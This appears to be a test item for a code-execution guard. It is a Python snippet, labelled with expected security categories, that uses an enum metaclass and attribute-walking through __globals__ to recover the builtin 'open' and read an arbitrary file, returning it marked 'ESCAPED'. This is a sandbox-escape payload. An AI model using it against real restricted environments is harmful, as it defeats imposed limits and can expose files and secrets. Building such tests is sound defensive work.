# guard: CODE_SECURITY|CODE_RUNTIME
# bare: CODE_SECURITY
# what: a metaclass of the library as a base, with what only type can do
import enum
class Meta(enum.EnumMeta):
    def __call__(cls, *arguments):
        return super().__call__(*arguments)
names = super(Meta, Meta("Made", (), enum.EnumMeta.__prepare__("Made", ()))).__getattribute__("__contains__").__func__.__globals__
return "ESCAPED " + names["__builtins__"]["open"](inputs["file"]).read()
